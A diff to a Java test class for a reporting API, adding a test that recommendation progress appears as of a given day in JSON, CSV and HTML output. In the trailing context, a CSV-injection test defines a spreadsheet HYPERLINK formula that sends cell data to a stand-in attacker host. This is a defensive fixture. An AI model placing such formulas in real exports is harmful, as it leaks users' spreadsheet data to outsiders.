@@ -120,6 +120,35 @@ class ReportTest {
     }
 
     @Test
+    void progressIsShownInJsonCsvAndHtmlAsOfTheDay() throws Exception {
+        UUID dfr = ReportData.organization();
+        Response set = ReportData.workPlan(dfr);
+        String three = Fixtures.recommendation(set, 3);
+        post(TestTokens.admin(), "/recommendations/" + three + "/status",
+                Map.of("status", "in_progress", "progress", 30, "date", "2023-03")).then().statusCode(201);
+        ReportData.backdate(set.path("id"), 3);
+        post(TestTokens.admin(), "/recommendations/" + three + "/status",
+                Map.of("status", "in_progress", "progress", 65, "date", "2023-09")).then().statusCode(201);
+        given().auth().oauth2(TestTokens.reader(dfr)).get("/reports/" + dfr + "/2023?asOf=" + TODAY.minusDays(1))
+                .then().statusCode(200).body("recommendations[2].progress", equalTo(30))
+                .body("recommendations[2].timeline.progress", contains(0, 30));
+        given().auth().oauth2(TestTokens.reader(dfr)).get("/reports/" + dfr + "/2023")
+                .then().statusCode(200).body("recommendations[2].progress", equalTo(65))
+                .body("recommendations[2].timeline.progress", contains(0, 30, 65))
+                .body("recommendations[0].progress", equalTo(0));
+        String csv = given().auth().oauth2(TestTokens.reader(dfr)).accept("text/csv").get("/reports/" + dfr + "/2023")
+                .then().statusCode(200).extract().asString();
+        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(csv)).getRecords();
+        assertEquals("65", rows.get(2).get("progress"));
+        assertEquals("0", rows.get(0).get("progress"));
+        given().auth().oauth2(TestTokens.reader(dfr)).accept("text/html").get("/reports/" + dfr + "/2023")
+                .then().statusCode(200)
+                .body(containsString("aria-valuenow=\"65\"><span class=\"bar\" style=\"width:65%\"></span>"))
+                .body(containsString("<bdi class=\"percent\">65%</bdi>"));
+    }
+
+    @Test
     void l1_aRecommendationThatStartsLikeAFormulaIsTextInTheCsv() throws Exception {
         UUID dfr = ReportData.organization();
         String formula = "=HYPERLINK(\"https://evil.example/?\"&B2,\"open\")";
